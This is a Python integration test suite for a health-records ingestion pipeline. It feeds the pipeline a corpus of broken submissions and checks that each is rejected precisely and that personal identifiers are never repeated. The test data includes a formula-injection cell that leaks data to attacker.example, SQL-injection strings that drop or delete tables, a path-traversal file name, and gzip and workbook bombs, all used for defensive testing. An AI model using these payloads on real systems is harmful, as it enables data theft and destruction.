"""A corpus of broken submissions, all in one batch with good files around them.

Every kind of broken file a district actually receives — wrong encodings, wrong delimiters,
archives, workbooks, formulas, identifiers where counts belong, files for the wrong
facility or month — goes through the real stages against a real warehouse in one run.
Each must end rejected with a precise reason (or correctly accepted), the run must succeed,
every good file around them must load, nothing of a rejected file may be loaded, every
rejected file is copied to quarantine with its reason beside it, and no reason or feedback
document repeats a personal identifier.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
import pytest

from hmis.pipeline import monthly as tasks
from hmis.pipeline.run import Run
from hmis.platform.warehouse import fetch_all as rows
from hmis.reference.periods import REPORTING_TZ
from hmis_dev.demo.generator import generate

pytestmark = pytest.mark.integration

AS_OF = datetime(2026, 11, 27, 6, 0, tzinfo=REPORTING_TZ)
DAY_2 = AS_OF + timedelta(days=1)
PERIOD = "2026-10"
MAX_BYTES = 200_000
HEADER = ["facility_id", "period", "item_code", "value"]
FIRST_ARRIVAL = datetime(2026, 11, 4, 10, 0, tzinfo=REPORTING_TZ)
SECOND_ARRIVAL = AS_OF + timedelta(hours=2)
# Identifiers planted in text cells; they must never be repeated by a reason or feedback.
RCH_ID = "4021" + "5566" + "7788"
MOBILE = "98765" + "43210"
GX_VALUE = "are not whole numbers of 0 or more"


@dataclass(frozen=True)
class Case:
    kind: str
    key: str
    data: bytes
    outcome: str  # rejected | loaded | superseded | unchanged | not_discovered
    reason: str | None = None  # a substring of the ledger's reason
    facility: str | None = None
    values: dict | None = None  # what must be loaded for a loaded case




def table(records, sep=",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\n").writerows(records)
    return buffer.getvalue()


def long_records(facility, values, period=PERIOD) -> list[list[str]]:
    return [HEADER] + [[facility, period, item, str(v)] for item, v in values.items()]


def workbook(sheets: list[tuple[str, list[list]]]) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, records in sheets:
        sheet = book.create_sheet(name)
        for record in records:
            sheet.append(record)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, change) -> bytes:
    """A copy of a ZIP archive with ``change(name, bytes) -> bytes | None`` applied per entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            changed = change(name, source.read(name))
            if changed is not None:
                target.writestr(name, changed)
    return out.getvalue()


class Corpus:
    """Hands out facilities that reported on time with one valid file, and builds cases."""

    def __init__(self, truth):
        self.truth = truth
        self._pool = iter(sorted(f for (f, p), s in truth.scenario.items() if p == PERIOD and s == "on_time"))
        self.cases: list[Case] = []
        self.closed_facility = self.facility()

    def facility(self) -> str:
        return next(self._pool)

    def values(self, facility: str) -> dict[str, int]:
        return self.truth.values[(facility, PERIOD)]

    def add(self, kind, outcome, reason=None, *, data, name=None, facility=None, values=None, folder=PERIOD):
        key = f"submissions/{folder}/{name}"
        self.cases.append(Case(kind, key, data, outcome, reason, facility, values))

    def csv_case(self, kind, reason, build, outcome="rejected", ext="csv"):
        """A case built from a facility's valid file: ``build(facility, records) -> bytes``."""
        facility = self.facility()
        values = self.values(facility)
        data = build(facility, long_records(facility, values))
        self.add(kind, outcome, reason, data=data, name=f"{facility}.{ext}", facility=facility,
                 values=values if outcome == "loaded" else None)

    def value_case(self, kind, bad_value, reason=GX_VALUE):
        def build(facility, records):
            records[3][3] = bad_value
            return table(records).encode()
        self.csv_case(kind, reason, build)


def build_corpus(corpus: Corpus) -> None:
    c = corpus
    text = lambda records: table(records).encode()  # noqa: E731

    # ---- not a readable file at all
    c.csv_case("empty file (0 bytes)", "the file is empty (0 bytes)", lambda f, r: b"")
    c.csv_case("only blank lines", "holds only blank lines", lambda f, r: b"\n   \n\n")
    c.csv_case("header only", "has a header but no data rows", lambda f, r: text(r[:1]))
    c.csv_case("UTF-16 with byte-order mark", "saved as UTF-16", lambda f, r: table(r).encode("utf-16"))
    c.csv_case("UTF-16 without byte-order mark", "saved as UTF-16", lambda f, r: table(r).encode("utf-16-le"))
    c.csv_case("Latin-1 text", "line 2 holds the byte 0xE9",
               lambda f, r: table([r[0] + ["remarks"]] + [row + ["Kéndra"] for row in r[1:]]).encode("latin-1"))
    c.csv_case("NUL bytes in text", "holds a NUL byte", lambda f, r: text(r) + b"\x00\x00\x00")
    c.csv_case("control character in a cell", "line 3 holds the control character U+0007",
               lambda f, r: text(r).replace(",".join(r[2]).encode(), ",".join(r[2]).encode() + b"\x07"))
    c.csv_case("PNG image named .csv", "binary (a PNG image)", lambda f, r: b"\x89PNG\r\n\x1a\n" + bytes(64))
    c.csv_case("Excel 97-2003 content named .csv", "Excel 97-2003",
               lambda f, r: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    c.csv_case("gzip bomb named .csv", "gzip-compressed archive", lambda f, r: gzip.compress(b"0" * 20_000_000))
    c.csv_case("file over the size limit", f"over the limit of {MAX_BYTES:,}",
               lambda f, r: text(r) + b"\n" * (MAX_BYTES + 1))
    c.csv_case("workbook saved under a .csv name", "Excel workbook saved under a .csv name",
               lambda f, r: workbook([("Report", r)]))

    # ---- layout
    c.csv_case("semicolon delimiter", "separated by semicolons", lambda f, r: table(r, ";").encode())
    c.csv_case("tab delimiter", "separated by tabs", lambda f, r: table(r, "\t").encode())
    c.csv_case("missing value column", "missing column(s) value", lambda f, r: text([row[:3] for row in r]))
    c.csv_case("row with a missing field", "line 3 has 3 fields but the header has 4",
               lambda f, r: text(r[:2] + [r[2][:3]] + r[3:]))
    c.csv_case("unquoted thousands separator", "a value with a comma (such as 1,234)",
               lambda f, r: text(r).replace(",".join(r[2]).encode() + b"\n", ",".join(r[2][:3]).encode() + b",1,234\n"))
    c.csv_case("no header line", "the header line is missing", lambda f, r: text(r[1:]))
    c.csv_case("quote opened and never closed", "runs over several lines",
               lambda f, r: text(r).replace(",".join(r[2]).encode(), ",".join(r[2][:3]).encode() + f',"{r[2][3]}'.encode()))

    # ---- cells screened at parse time, never repeated
    def cell(row, col, value):
        def build(f, r):
            r[row][col] = value
            return text(r)
        return build

    c.csv_case("20-digit value", "20-digit number", cell(2, 3, "98765432109876543210"))
    c.csv_case("RCH ID in a text cell", "12-digit number", cell(3, 2, f"RCH {RCH_ID}"))
    c.csv_case("mobile number in the facility cell", "10-digit number", cell(4, 0, MOBILE))
    c.csv_case("formula injection =HYPERLINK", "spreadsheet formula (it starts with '=')",
               cell(2, 3, '=HYPERLINK("http://attacker.example/?leak="&A1,"12")'))
    c.csv_case("formula injection @SUM", "spreadsheet formula (it starts with '@')", cell(3, 2, "@SUM(A1:A9)"))
    c.csv_case("database null marker", "a database null marker", cell(2, 3, "\\N"))

    # ---- values the suite refuses (the whole file is rejected)
    c.value_case("negative value", "-5")
    c.value_case("decimal value", "12.5")
    c.value_case("NaN value", "NaN")
    c.value_case("exponent value", "1e3")
    c.value_case("quoted thousands separator", "1,234")
    c.value_case("text in a numeric cell", "twelve")
    c.value_case("empty value cell", "")
    c.value_case("SQL injection in a value", "1; DELETE FROM facts.monthly_value; --")

    # ---- facility, period and item checks
    c.csv_case("duplicate rows", "repeat an item already given in the same file", lambda f, r: text(r + [r[5]]))
    c.csv_case("SQL injection in the facility cell", "not in the district registry",
               cell(2, 0, "HR-HIS-0001'); DROP TABLE facts.monthly_value; --"))
    c.csv_case("rows for another facility", "name a facility other than the one the file was uploaded for",
               lambda f, r: text([r[0]] + [["HR-HIS-0001", *row[1:]] for row in r[1:]]))
    c.csv_case("wrong period", "period different from the month the file was uploaded for",
               lambda f, r: text([r[0]] + [[row[0], "2026-09", *row[2:]] for row in r[1:]]))
    c.csv_case("period in the future", "period different from the month the file was uploaded for",
               lambda f, r: text([r[0]] + [[row[0], "2027-01", *row[2:]] for row in r[1:]]))
    c.csv_case("period not YYYY-MM", "a period that is not YYYY-MM",
               lambda f, r: text([r[0]] + [[row[0], "Oct-2026", *row[2:]] for row in r[1:]]))
    c.csv_case("unknown item code", "not in the HMIS data-item catalogue", cell(2, 2, "99.9.9"))
    c.csv_case("Devanagari in a code cell", "not in the HMIS data-item catalogue", cell(2, 2, "प्रसव"))
    unknown = "HR-HIS-9999"
    c.add("unknown facility", "rejected", "not in the district registry", name=f"{unknown}.csv",
          data=text(long_records(unknown, {"1.1": 3, "1.2.1": 2})), facility=unknown)
    closed = c.closed_facility
    c.add("closed facility", "rejected", "not registered on HMIS or was not open", name=f"{closed}.csv",
          data=text(long_records(closed, c.values(closed))), facility=closed)
    unregistered = c.truth.unregistered_ids[0]
    c.add("facility not registered on HMIS", "rejected", "not registered on HMIS or was not open",
          name=f"{unregistered}.csv", data=text(long_records(unregistered, {"1.1": 3})), facility=unregistered)

    # ---- names and types
    f = c.facility()
    c.add(".zip upload", "rejected", "compressed archive (.zip)", name=f"{f}.zip", facility=f,
          data=_zip_of("report.csv", text(long_records(f, c.values(f)))))
    f = c.facility()
    c.add(".csv.gz upload", "rejected", "compressed archive (.gz)", name=f"{f}.csv.gz", facility=f,
          data=gzip.compress(text(long_records(f, c.values(f)))))
    f = c.facility()
    c.add("old .xls name", "rejected", "old Excel 97-2003 workbook (.xls)", name=f"{f}.xls", facility=f,
          data=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    f = c.facility()
    c.add("SQL injection in the file name", "rejected", "should be <facility_id>.csv",
          name=f"{f}'; DROP TABLE ingest.file; --.csv", data=text(long_records(f, c.values(f))))
    f = c.facility()
    c.add("Excel lock file", "rejected", "should be <facility_id>.csv", name=f"~${f}.xlsx", data=b"\x00" * 165)

    # ---- JSON
    c.csv_case("CSV content named .json", "named .json but is CSV text", lambda f, r: text(r), ext="json")
    c.csv_case("malformed JSON", "the JSON is malformed at line",
               lambda f, r: b'{"dataValues": [{"dataElement": "1.1", "value": 3}', ext="json")
    c.csv_case("JSON nested too deeply", "nested too deeply", lambda f, r: b"[" * 50_000 + b"]" * 50_000,
               ext="json")

    # ---- Excel
    c.csv_case("zero-byte object named .xlsx", "the file is empty (0 bytes) although it is named .xlsx",
               lambda f, r: b"", ext="xlsx")
    c.csv_case("CSV text named .xlsx", "named .xlsx but is text", lambda f, r: text(r), ext="xlsx")
    c.csv_case("workbook with many sheets", "5 of the workbook's 5 sheets",
               lambda f, r: workbook([(f"Copy {n}", r) for n in range(5)]), ext="xlsx")
    c.csv_case("workbook without a report sheet", "none of the workbook's 3 sheet(s) has the header row",
               lambda f, r: workbook([(f"Notes {n}", [["remarks"], ["nothing here"]]) for n in range(3)]),
               ext="xlsx")
    c.csv_case("workbook with no worksheet at all", "the workbook has no worksheet",
               lambda f, r: _without_sheets(workbook([("Report", r)])), ext="xlsx")
    c.csv_case("workbook bomb", "the workbook would expand to",
               lambda f, r: rewrite_zip(workbook([("Report", r)]), lambda n, b: b if n != "xl/worksheets/sheet1.xml"
                                        else b + b" " * (30 * MAX_BYTES)), ext="xlsx")
    c.csv_case("formula in a workbook", "row 3: the value cell holds a spreadsheet formula",
               lambda f, r: workbook([("Report", r[:2] + [r[2][:3] + ["=SUM(D2:D2)"]] + r[3:])]), ext="xlsx")

    # ---- correctly accepted despite looking odd
    c.csv_case("UTF-8 byte-order mark", None, lambda f, r: b"\xef\xbb\xbf" + text(r), outcome="loaded")
    c.csv_case("Devanagari names in an extra column", None, outcome="loaded",
               build=lambda f, r: table([r[0] + ["facility_name"]] + [row + ["सामुदायिक स्वास्थ्य केंद्र अग्रोहा"]
                                                                        for row in r[1:]]).encode())
    c.csv_case("extra columns with a quoted newline", None, outcome="loaded",
               build=lambda f, r: table([["remarks", *r[0], "checked_by"]]
                                        + [["line one\nline two", *row, "ANM"] for row in r[1:]]).encode())
    c.csv_case("RCH ID in an extra column", None, outcome="loaded",
               build=lambda f, r: table([r[0] + ["remarks"]] + [row + [f"RCH {RCH_ID}"] for row in r[1:]]).encode())
    c.csv_case("trailing empty cells and CRLF line ends", None, outcome="loaded",
               build=lambda f, r: table([row + ["", ""] for row in r]).replace("\n", "\r\n").encode())
    c.csv_case("spaces around cells", None, outcome="loaded",
               build=lambda f, r: text([[f" {v} " for v in row] for row in r]))
    c.csv_case("Excel workbook with the period typed as a date", None, outcome="loaded", ext="xlsx",
               build=lambda f, r: workbook([("Notes", [["prepared by the MO"]]),
                                            ("Report", [r[0]] + [[row[0], datetime(2026, 10, 1), row[2], int(row[3])]
                                                                 for row in r[1:]])]))
    c.csv_case("DHIS2 dataValueSets JSON", None, outcome="loaded", ext="json",
               build=lambda f, r: json.dumps({"dataSet": "HMIS", "period": "202610", "orgUnit": f, "dataValues": [
                   {"dataElement": row[2], "value": row[3]} for row in r[1:]]}).encode())

    # ---- not yet a submission: a folder whose month is not open
    f = c.facility()
    c.add("file in a future month's folder", "not_discovered", name=f"{f}.csv", folder="2026-12", facility=f,
          data=text(long_records(f, c.values(f), "2026-12")))


def _zip_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _without_sheets(data: bytes) -> bytes:
    def change(name, content):
        if name.startswith("xl/worksheets/"):
            return None
        if name == "xl/workbook.xml":
            start, end = content.index(b"<sheets>"), content.index(b"</sheets>") + len(b"</sheets>")
            return content[:start] + b"<sheets/>" + content[end:]
        return content
    return rewrite_zip(data, change)


def write(landing: Path, key: str, data: bytes, arrived: datetime) -> None:
    path = landing / key
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.utime(path, (arrived.timestamp(), arrived.timestamp()))


def run_stages(as_of: datetime) -> dict:
    """The ingest stages and compliance for one logical date; each must succeed."""
    return {stage: getattr(tasks, stage)(Run.at(as_of)) for stage in
            ("prepare", "discover", "parse", "validate", "load", "update_compliance")}


@pytest.fixture
def corpus_run(warehouse, landing, tmp_path, monkeypatch):
    monkeypatch.setenv("HMIS_MAX_FILE_BYTES", str(MAX_BYTES))
    monkeypatch.setenv("HMIS_DATA_DOCS", "off")
    truth = generate(tmp_path / "demo", AS_OF, months=1)
    corpus = Corpus(truth)
    # The registry, with one facility closed before the period began.
    registry = (tmp_path / "demo" / "registry" / "facilities.csv").read_text(encoding="utf-8").splitlines()
    registry = [line + "2026-06-30" if line.startswith(corpus.closed_facility + ",") else line for line in registry]
    write(landing, "registry/facilities.csv", ("\n".join(registry) + "\n").encode(), FIRST_ARRIVAL)
    write(landing, "registry/contacts.csv", (tmp_path / "demo" / "registry" / "contacts.csv").read_bytes(),
          FIRST_ARRIVAL)

    # Day 1: good files only, some of which the corpus later duplicates or resubmits.
    first_good = [corpus.facility() for _ in range(4)]
    duplicated, rewritten, resubmitted = corpus.facility(), corpus.facility(), corpus.facility()
    for facility in first_good + [duplicated, rewritten, resubmitted]:
        write(landing, f"submissions/{PERIOD}/{facility}.csv", table(long_records(
            facility, corpus.values(facility))).encode(), FIRST_ARRIVAL)
    first = run_stages(AS_OF)
    assert first["load"]["loaded_files"] == 7

    # Day 2: the whole corpus, with good files around it, in one batch.
    build_corpus(corpus)
    original = (landing / f"submissions/{PERIOD}/{duplicated}.csv").read_bytes()
    corpus.add("duplicate of a loaded file under another key", "loaded", name=f"{duplicated}__copy.csv",
               data=original, facility=duplicated, values=corpus.values(duplicated))
    corpus.add("the same file uploaded again under its key", "unchanged", name=f"{rewritten}.csv",
               data=(landing / f"submissions/{PERIOD}/{rewritten}.csv").read_bytes(), facility=rewritten,
               values=corpus.values(rewritten))
    older = {item: value + 1 for item, value in corpus.values(resubmitted).items()}
    corpus.add("resubmission older than the loaded file", "superseded", name=f"{resubmitted}__older.csv",
               data=table(long_records(resubmitted, older)).encode(), facility=resubmitted,
               values=corpus.values(resubmitted))
    second_good = [corpus.facility() for _ in range(4)]
    for n, case in enumerate(corpus.cases):
        arrived = FIRST_ARRIVAL - timedelta(days=1) if case.outcome == "superseded" else SECOND_ARRIVAL
        write(landing, case.key, case.data, arrived + timedelta(seconds=n))
    for facility in second_good:
        write(landing, f"submissions/{PERIOD}/{facility}.csv",
              table(long_records(facility, corpus.values(facility))).encode(), SECOND_ARRIVAL)
    second = run_stages(DAY_2)
    return corpus, first_good + second_good, second


def test_every_broken_file_is_rejected_precisely_and_every_good_file_loads(corpus_run, landing):
    corpus, good, second = corpus_run
    kinds = {case.kind for case in corpus.cases}
    assert len(kinds) == len(corpus.cases) >= 30
    rejected_cases = [c for c in corpus.cases if c.outcome == "rejected"]
    assert len(rejected_cases) >= 30

    ledger = {key: (fid, status, reason, qkey) for fid, key, status, reason, qkey in rows(
        "SELECT file_id, key, status, reason, quarantine_key FROM ingest.file")}
    loaded = {}
    for facility, item, value, file_id in rows(
            "SELECT facility_id, item_code, value, file_id FROM facts.monthly_value WHERE period = %s", (PERIOD,)):
        loaded.setdefault(facility, {})[item] = (value, file_id)

    problems = []
    for case in corpus.cases:
        entry = ledger.get(case.key)
        if case.outcome == "not_discovered":
            if entry is not None:
                problems.append(f"{case.kind}: taken although its month is not open")
            continue
        if entry is None:
            problems.append(f"{case.kind}: not in the ledger")
            continue
        file_id, status, reason, quarantine_key = entry
        if case.outcome == "rejected":
            if status != "rejected" or case.reason not in (reason or ""):
                problems.append(f"{case.kind}: {status}, reason {reason!r}; expected {case.reason!r}")
                continue
            if rows("SELECT count(*) FROM facts.monthly_value WHERE file_id = %s", (file_id,))[0][0]:
                problems.append(f"{case.kind}: rows of a rejected file were loaded")
            if rows("SELECT count(*) FROM ingest.staged_value WHERE file_id = %s", (file_id,))[0][0]:
                problems.append(f"{case.kind}: rows of a rejected file are still staged")
            if case.facility and case.facility in loaded:
                problems.append(f"{case.kind}: its facility-period has loaded values")
            copy, note = landing / quarantine_key, landing / (quarantine_key + ".reason.txt")
            if not (copy.is_file() and copy.read_bytes() == case.data):
                problems.append(f"{case.kind}: no faithful quarantine copy at {quarantine_key}")
            if not (note.is_file() and case.reason in note.read_text(encoding="utf-8")):
                problems.append(f"{case.kind}: no reason beside the quarantine copy")
            if not quarantine_key.startswith(f"quarantine/{PERIOD}/{file_id}-") or ".." in quarantine_key:
                problems.append(f"{case.kind}: quarantine key {quarantine_key!r} is not a plain key")
        elif case.outcome == "loaded":
            expected_ids = {fid for key, (fid, st, _r, _q) in ledger.items() if key == case.key}
            got = loaded.get(case.facility, {})
            if status != "loaded" or {i: v for i, (v, _f) in got.items()} != case.values \
                    or {f for _v, f in got.values()} != expected_ids:
                problems.append(f"{case.kind}: {status}, {reason!r}; values loaded differ from the file")
        elif case.outcome == "superseded":
            winner = ledger[f"submissions/{PERIOD}/{case.facility}.csv"][0]
            got = loaded.get(case.facility, {})
            if status != "superseded" or {i: v for i, (v, _f) in got.items()} != case.values \
                    or {f for _v, f in got.values()} != {winner}:
                problems.append(f"{case.kind}: {status}; the newer loaded file must stay loaded")
        elif case.outcome == "unchanged":
            if rows("SELECT count(*) FROM ingest.file WHERE key = %s", (case.key,))[0][0] != 1 or status != "loaded":
                problems.append(f"{case.kind}: taken again ({status})")
    assert not problems, "\n".join(problems)
    assert second["parse"]["unreadable_files"] + second["validate"]["rejected_files"] == len(rejected_cases)

    # Every good file around the corpus loaded exactly as sent.
    for facility in good:
        assert {i: v for i, (v, _f) in loaded[facility].items()} == corpus.values(facility), facility
    # A duplicate under another key replaces its twin with equal values: one loaded file, no doubled rows.
    duplicate = next(c for c in corpus.cases if c.kind.startswith("duplicate of a loaded file"))
    assert rows("""SELECT status, count(*) FROM ingest.file WHERE facility_id = %s AND period = %s
                    GROUP BY 1 ORDER BY 1""", (duplicate.facility, PERIOD)) == [("loaded", 1), ("superseded", 1)]
    # Nothing twice: one value per facility, period and item is the table's key; one loaded file each.
    assert rows("""SELECT count(*) FROM (SELECT facility_id, period FROM ingest.file WHERE status = 'loaded'
                    GROUP BY 1, 2 HAVING count(*) > 1) x""") == [(0,)]
    # The SQL in cells and names was data, never code.
    assert rows("SELECT count(*) > 0 FROM facts.monthly_value") == [(True,)]


def test_reasons_and_feedback_never_repeat_personal_identifiers(corpus_run, landing):
    texts = [r for row in rows("SELECT coalesce(reason, '') FROM ingest.file") for r in row]
    texts += [" ".join(str(v) for v in row) for row in rows(
        "SELECT message, coalesce(message_hi, ''), coalesce(observed, ''), coalesce(expected, '') FROM dq.result")]
    documents = [p for p in (landing / "feedback").rglob("*") if p.is_file()]
    documents += list((landing / "quarantine").rglob("*.reason.txt"))
    assert len(documents) > 30
    texts += [p.read_text(encoding="utf-8") for p in documents]
    for identifier in (RCH_ID, MOBILE):
        leaks = [t[:200] for t in texts if identifier in t]
        assert not leaks, leaks
    # The identifiers were in the files; they were screened out, not missed.
    reasons = " ".join(texts)
    assert "12-digit number" in reasons and "10-digit number" in reasons
    assert rows("SELECT count(*) FROM ingest.staged_value WHERE value_raw LIKE %s OR item_code LIKE %s",
                (f"%{RCH_ID}%", f"%{RCH_ID}%")) == [(0,)]


def test_a_key_that_climbs_out_of_the_store_is_refused_and_the_run_goes_on(warehouse, landing, tmp_path, monkeypatch):
    """On a local store a backslash name is the path-traversal key that can exist
    (``..\\..\\x.csv`` is one file name on Linux, a climb on Windows and through some S3 tools)."""
    monkeypatch.setenv("HMIS_DATA_DOCS", "off")
    truth = generate(tmp_path / "demo", AS_OF, months=1)
    for name in ("facilities.csv", "contacts.csv"):
        write(landing, f"registry/{name}", (tmp_path / "demo" / "registry" / name).read_bytes(), FIRST_ARRIVAL)
    good = sorted(f for (f, p), s in truth.scenario.items() if p == PERIOD and s == "on_time")[0]
    write(landing, f"submissions/{PERIOD}/{good}.csv",
          table(long_records(good, truth.values[(good, PERIOD)])).encode(), FIRST_ARRIVAL)
    write(landing, f"submissions/{PERIOD}/..\\..\\registry\\facilities.csv", b"facility_id\n", FIRST_ARRIVAL)
    run_stages(AS_OF)
    status, reason, quarantined = rows(
        "SELECT status, reason, quarantine_key FROM ingest.file WHERE key LIKE %s", ("%registry%",))[0]
    assert status == "rejected" and "not a plain relative path" in reason
    assert "could not be copied" in reason
    assert (landing / f"{quarantined}.reason.txt").read_text(encoding="utf-8").strip() == reason
    assert rows("SELECT count(*) FROM facts.monthly_value WHERE facility_id = %s", (good,))[0][0] > 0

